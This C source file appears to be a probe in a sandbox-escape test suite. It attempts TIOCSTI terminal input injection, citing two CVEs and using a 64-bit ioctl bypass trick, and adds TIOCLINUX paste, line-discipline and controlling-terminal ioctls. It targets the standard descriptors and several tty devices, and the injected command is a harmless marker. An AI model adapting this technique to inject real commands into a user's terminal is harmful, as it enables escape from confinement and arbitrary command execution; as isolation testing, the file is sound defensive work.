/* Types into the terminal that it was started from, for the shell that comes after it (TIOCSTI; CVE-2017-5226, CVE-2023-28100). */
#include "common/attack.h"

static void inject(int fd, const char *name) {
    static const char line[] = "touch /run/typed; echo " MARK "\n";
    int typed = 0;
    for (const char *at = line; *at; at++) {
        typed += ioctl(fd, TIOCSTI, at) == 0;
        /* The same request with bits above the 32 that the kernel looks at. */
        typed += syscall(SYS_ioctl, fd, TIOCSTI | 1ul << 32, at) == 0;
    }
    struct {
        char command;
        short words[5];
    } __attribute__((packed)) select = {2, {0, 0, 80, 25, 0}};
    char paste = 3;
    int discipline = 1;
    printf("%s: typed %d\n", name, typed);
    TRY(ioctl(fd, TIOCLINUX, &select));
    TRY(ioctl(fd, TIOCLINUX, &paste));
    TRY(ioctl(fd, TIOCSETD, &discipline));
    TRY(ioctl(fd, TIOCSCTTY, 1));
}

static void attempt(void) {
    inject(0, "descriptor 0");
    inject(1, "descriptor 1");
    static const char *names[] = {"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0", "/dev/ttyS0"};
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_RDWR | O_NOCTTY | O_NONBLOCK);
        printf("%s: %s\n", names[i], fd < 0 ? strerror(errno) : "open");
        if (fd >= 0) {
            inject(fd, names[i]);
        }
    }
}
